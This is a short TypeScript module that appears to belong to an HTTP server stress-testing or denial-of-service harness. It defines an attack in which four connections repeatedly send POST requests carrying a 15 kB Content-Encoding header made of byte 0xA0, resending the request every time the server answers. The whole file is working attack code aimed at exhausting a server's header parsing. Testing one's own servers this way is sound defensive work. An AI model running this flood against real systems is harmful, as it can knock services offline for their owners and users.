import { type Attack, crowd, post } from './attack.ts'

const connections = 4
const request = Buffer.from(`${post(2, `Content-Encoding: ${'\xa0'.repeat(15_000)}`)}{}`, 'latin1')

export const contentEncoding: Attack = {
  name: `${connections} connections send 15 kB of byte 0xA0 as Content-Encoding again and again`,
  run: async (target, over) => {
    let answers = 0
    const ended = await crowd(target, connections, over, (socket) => {
      socket.on('data', () => {
        answers += 1
        socket.write(request)
      })
      socket.write(request)
    })
    return `${answers} requests answered, ${ended} connections ended`
  },
}
